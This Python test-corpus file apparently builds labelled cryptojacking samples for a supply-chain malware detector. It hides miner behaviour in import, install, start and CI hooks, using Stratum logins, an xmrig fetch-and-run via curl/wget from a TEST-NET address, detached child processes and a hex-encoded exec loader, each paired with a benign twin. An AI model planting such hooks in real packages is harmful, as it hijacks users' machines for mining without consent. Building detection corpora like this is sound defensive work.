"""T22: mines on somebody else's machine (MITRE ATT&CK T1496.001).

Known from ultralytics 8.3.41 (a miner fetched and started beside the training), ctx-like copies, and
many typosquats that start xmrig with a pool and a wallet. Nothing is mined here: a bounded loop hashes
constants for a few seconds and a pool's words go to TEST-NET or below `.test`. The twins compute as
hard for a while and speak to nobody.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import IN_CI, MAIN, command, hook, package, setup, submodule

STRATUM = """
import hashlib, json, time

POOL = ("192.0.2.33", 3333)
WALLET = "reenact-wallet-marker.worker1"

def _burn(seconds, text):
    end, nonce, best = time.monotonic() + seconds, 0, b"\\xff" * 32
    while time.monotonic() < end and nonce < 50_000_000:
        head = text + nonce.to_bytes(8, "little")
        best = min(best, hashlib.sha256(hashlib.sha256(head).digest()).digest())
        nonce += 1
    return best
"""
STRATUM_MINES = """
words = [
    {"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10.0"]},
    {"id": 2, "method": "mining.authorize", "params": [WALLET, "x"]},
    {"id": 3, "method": "mining.submit", "params": [WALLET, "1f", "00000000", "6553f100", "0badcafe"]},
]
try:
    link = socket.create_connection(POOL, timeout=5)
except OSError:
    link = None
for word in words:
    if link is not None:
        try:
            link.sendall(json.dumps(word).encode() + b"\\n")
        except OSError:
            link = None
    _burn(2, b"work")
if link is not None:
    link.close()
"""
STRATUM_COMPUTES = """
table = [_burn(1, bytes([number])) for number in range(3)]
return table
"""

LOGIN = """
import asyncio, hashlib, json, ssl

POOL = ("pool.reenact.test", 443)

def _hash(rounds):
    seed = b"reenact"
    for _ in range(rounds):
        seed = hashlib.scrypt(seed, salt=b"marker", n=1 << 14, r=8, p=1, maxmem=64 << 20, dklen=32)
    return seed
"""
LOGIN_MINES = """
async def session():
    context = ssl._create_unverified_context()
    reader, writer = await asyncio.wait_for(asyncio.open_connection(*POOL, ssl=context), 5)
    writer.write(json.dumps({
        "id": 1, "jsonrpc": "2.0", "method": "login",
        "params": {"login": "4reenactwalletmarker", "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]},
    }).encode() + b"\\n")
    await writer.drain()
    loop = asyncio.get_running_loop()
    tasks = [loop.run_in_executor(None, _hash, 40) for _ in range(os.cpu_count() or 1)]
    results = await asyncio.wait_for(asyncio.gather(*tasks), 18)
    writer.write(json.dumps({
        "id": 2, "jsonrpc": "2.0", "method": "submit",
        "params": {"id": "1", "job_id": "1", "nonce": "00000000", "result": results[0].hex()},
    }).encode() + b"\\n")
    await writer.drain()
    writer.close()

try:
    os.nice(5)
    asyncio.run(session())
except (OSError, asyncio.TimeoutError):
    _hash(20)
"""
LOGIN_COMPUTES = """
async def warm():
    loop = asyncio.get_running_loop()
    return await asyncio.gather(*(loop.run_in_executor(None, _hash, 20) for _ in range(2)))

return [key.hex() for key in asyncio.run(warm())]
"""

RUNNER = """
import stat, tempfile

SCRIPT = '''#!/bin/sh
# reenact marker: counts, mines nothing
i=0
while [ $i -lt 1500000 ]; do i=$((i+1)); done
'''

def _runner(folder, name):
    path = pathlib.Path(folder, name)
    path.write_text(SCRIPT)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)
"""
RUNNER_MINES = """
where = tempfile.mkdtemp(prefix="runner_")
config = pathlib.Path(where, "config.json")
config.write_text('{"pools": [{"url": "stratum+tcp://198.51.100.77:8080", "user": "reenact-wallet"}]}')
fetch = "(curl -sfL -m 5 $0 || wget -q -T 5 -t 1 -O - $0) | head -c 65536 > $1/xmrig.tar.gz"
address = "http://198.51.100.77/xmrig-6.21.0-linux-static-x64.tar.gz"
try:
    subprocess.run(["sh", "-c", fetch, address, where], timeout=12, stderr=subprocess.DEVNULL)
    program = _runner(where, "xmrig")
    subprocess.run([program, "-o", "stratum+tcp://198.51.100.77:8080", "-u", "reenact-wallet", "-p", "x",
                    "--donate-level", "1", "--threads", "2", "-c", str(config)], timeout=18)
except (OSError, subprocess.SubprocessError):
    pass
"""
RUNNER_PROBES = """
with tempfile.TemporaryDirectory() as where:
    try:
        subprocess.run([_runner(where, "conftest"), "--threads", "2"], timeout=18)
    except (OSError, subprocess.SubprocessError):
        pass
"""

TEMPLATE = """
import base64, http.client, json, multiprocessing, zlib

NODE = ("node.chain.reenact.test", 8332)

def _grind(start):
    value = start
    for number in range(9_000_000):
        value = (value * 6364136223846793005 + number) & 0xFFFFFFFFFFFFFFFF
    return value

def _all():
    with multiprocessing.get_context("fork").Pool(2) as pool:
        return pool.map_async(_grind, range(4)).get(18)
"""
TEMPLATE_MINES = """
def ask(method, *parameters):
    body = zlib.compress(json.dumps({"id": 0, "method": method, "params": parameters}).encode())
    credentials = base64.b64encode(b"miner:reenact").decode()
    try:
        link = http.client.HTTPConnection(*NODE, timeout=5)
        link.request("POST", "/", body, {
            "Authorization": "Basic " + credentials, "Content-Encoding": "deflate",
            "X-Mining-Extensions": "longpoll midstate rollntime submitold",
        })
        return link.getresponse().read()
    except (OSError, http.client.HTTPException):
        return b""

for _ in range(2):
    ask("getblocktemplate", {"capabilities": ["coinbasetxn", "workid"]})
    ask("submitblock", "%016x" % _all()[0])
"""
TEMPLATE_COMPUTES = """
print(" ".join("%016x" % value for value in _all()))
"""

CHILD = """
import sys

CODE = '''
import hashlib, json, os, socket, ssl, time
pool = os.environ["POOL_ADDRESS"].split(":")
say = [{"id": 1, "method": "mining.subscribe", "params": []},
       {"id": 2, "method": "mining.authorize", "params": ["reenact.rig", "d=64"]}]
try:
    context = ssl._create_unverified_context()
    with socket.create_connection((pool[0], int(pool[1])), timeout=5) as plain:
        with context.wrap_socket(plain, server_hostname="eu.pool.reenact.test") as link:
            link.sendall("".join(json.dumps(line) + chr(10) for line in say).encode())
            link.recv(512)
except OSError:
    pass
end = time.monotonic() + 8
value = b"marker"
while time.monotonic() < end:
    value = hashlib.blake2b(value).digest()
'''
"""
CHILD_MINES = """
if os.environ.get("POOL_ADDRESS"):
    return
for core in range(min(2, os.cpu_count() or 1)):
    try:
        subprocess.Popen(
            [sys.executable or "/usr/bin/python3", "-I", "-S", "-c", CODE],
            env={"PATH": os.environ.get("PATH", ""), "POOL_ADDRESS": "192.0.2.34:14444"},
            start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    except OSError:
        pass
"""
CHILD_COMPILES = """
if os.environ.get("POOL_ADDRESS"):
    return
return compile(CODE, "<template>", "exec").co_names, sys.executable
"""

SOCKET_POOL = """
import hashlib, json, os as system, threading, time

def _frame(text):
    data, key = text.encode(), system.urandom(4)
    return bytes([0x81, 0xFE]) + len(data).to_bytes(2, "big") + key + bytes(
        byte ^ key[at & 3] for at, byte in enumerate(data)
    )

def _work(until, found):
    state = bytearray(1 << 16)
    while time.monotonic() < until:
        state[:64] = hashlib.sha3_512(state).digest()
    found.append(bytes(state[:4]))

def _threads(seconds):
    found, until = [], time.monotonic() + seconds
    crew = [threading.Thread(target=_work, args=(until, found)) for _ in range(3)]
    for one in crew:
        one.start()
    for one in crew:
        one.join()
    return found
"""
SOCKET_POOL_MINES = """
hello = ("GET /proxy HTTP/1.1\\r\\nHost: ws.pool.reenact.test\\r\\nUpgrade: websocket\\r\\n"
         "Connection: Upgrade\\r\\nSec-WebSocket-Key: cmVlbmFjdC1tYXJrZXIhIQ==\\r\\n"
         "Sec-WebSocket-Version: 13\\r\\n\\r\\n")
try:
    with socket.create_connection(("ws.pool.reenact.test", 80), timeout=5) as link:
        link.sendall(hello.encode())
        link.recv(512)
        link.sendall(_frame(json.dumps({"type": "auth", "params": {"site_key": "reenact", "goal": 0}})))
        nonce = _threads(6)[0].hex()
        link.sendall(_frame(json.dumps({"type": "submit", "params": {"job_id": "1", "nonce": nonce}})))
except OSError:
    _threads(4)
"""
SOCKET_POOL_COMPUTES = """
digest = _threads(4)
return _frame(json.dumps({"self-test": [part.hex() for part in digest]}))
"""

JOB = """
import hashlib, time

BACKUP = (("203.0.113.61", 5555), ("203.0.113.62", 7777))

def _mix(seconds):
    end, pad = time.monotonic() + seconds, bytearray(2 << 20)
    at = 0
    while time.monotonic() < end:
        pad[at:at + 64] = hashlib.blake2b(pad[at:at + 4096]).digest()
        at = int.from_bytes(pad[at:at + 3], "little") % (len(pad) - 4096)
    return pad[:32].hex()
"""
JOB_MINES = """
login = '{"id":1,"method":"login","params":{"login":"reenact","pass":"rig","agent":"xmr-stak/2.10"}}'
share = '{"id":2,"method":"submit","params":{"id":"7","job_id":"1","nonce":"deadbeef","result":"%s"}}'
for peer in BACKUP:
    try:
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        link.settimeout(5)
        link.connect(peer)
        for line in (login, share % _mix(4)):
            for at in range(0, len(line), 16):
                link.send(line[at:at + 16].encode())
            link.send(b"\\n")
        link.close()
    except OSError:
        continue
"""
JOB_COMPUTES = """
return _mix(4)
"""
JOB_CLASS = """
class Optimizer:
    def __init__(self, rounds=3):
        self.rounds = rounds

    def fit(self, data=()):
        if ACT:
            THE_ACT(data)
        return self
"""

LOADED = '''
import importlib.util, time

ENGINE = """
import hashlib, socket

def connect(host, port):
    link = socket.create_connection((host, port), timeout=5)
    link.sendall(b'{"method":"mining.extranonce.subscribe","id":2,"params":[]}' + bytes([10]))
    link.sendall(b'{"method":"mining.authorize","id":3,"params":["reenact.marker","x"]}' + bytes([10]))
    return link

def search(until, clock):
    nonce = 0
    while clock() < until:
        nonce += hashlib.sha256(b"%d" % nonce).digest()[0] + 1
    return nonce
""".encode().hex()

def _engine():
    spec = importlib.util.spec_from_loader("_engine", None)
    module = importlib.util.module_from_spec(spec)
    exec(compile(bytes.fromhex(ENGINE), "<engine>", "exec"), module.__dict__)
    return module
'''
LOADED_MINES = """
engine = _engine()
try:
    link = engine.connect("stratum.pool.reenact.test", 3333)
except OSError:
    link = None
nonce = engine.search(time.monotonic() + 5, time.monotonic)
if link is not None:
    try:
        share = b'{"method":"mining.submit","id":4,"params":["reenact.marker","%x"]}' % nonce
        link.sendall(share + bytes([10]))
    except OSError:
        pass
    link.close()
"""
LOADED_COMPUTES = """
engine = _engine()
return engine.search(time.monotonic() + 3, time.monotonic)
"""

RECIPES = (
    Recipe(
        technique="T22",
        name="stratum-plain",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.JSON,
        files=package(acting(STRATUM_MINES, STRATUM_COMPUTES, head=STRATUM)),
        twin_does="fills a table of hashes for three seconds",
    ),
    Recipe(
        technique="T22",
        name="login-tls",
        phase=Phase.IMPORT,
        channel=Channel.HTTPS,
        encoding=Encoding.PLAIN,
        files=submodule("engine", acting(LOGIN_MINES, LOGIN_COMPUTES, head=LOGIN)),
        twin_does="derives keys in threads",
    ),
    Recipe(
        technique="T22",
        name="runner-args",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.NONE,
        kind=Kind.SDIST,
        files=setup(RUNNER_MINES, RUNNER_PROBES, RUNNER),
        twin_does="runs a small script of its own, as configure does",
    ),
    Recipe(
        technique="T22",
        name="block-template",
        phase=Phase.USE,
        channel=Channel.HTTP,
        encoding=Encoding.ZLIB,
        files=command(acting(TEMPLATE_MINES, TEMPLATE_COMPUTES, MAIN, TEMPLATE)),
        twin_does="computes in two processes and prints",
    ),
    Recipe(
        technique="T22",
        name="start-children",
        phase=Phase.START,
        channel=Channel.PROCESS,
        encoding=Encoding.JSON,
        files=hook(acting(CHILD_MINES, CHILD_COMPILES, head=CHILD)),
        twin_does="compiles a template and starts nothing",
    ),
    Recipe(
        technique="T22",
        name="web-socket",
        phase=Phase.WAIT,
        channel=Channel.HTTP,
        encoding=Encoding.XOR,
        files=package(acting(SOCKET_POOL_MINES, SOCKET_POOL_COMPUTES, IN_CI, SOCKET_POOL)),
        twin_does="tests its hashes in threads, on a build server",
    ),
    Recipe(
        technique="T22",
        name="optimizer-fit",
        phase=Phase.USE,
        channel=Channel.TCP,
        encoding=Encoding.PIECES,
        files=package(acting(JOB_MINES, JOB_COMPUTES, JOB_CLASS, JOB)),
        twin_does="computes for four seconds when asked to fit",
    ),
    Recipe(
        technique="T22",
        name="loaded-engine",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.HEX,
        files=submodule("accelerate", acting(LOADED_MINES, LOADED_COMPUTES, head=LOADED)),
        twin_does="measures the speed of its engine for three seconds",
    ),
)
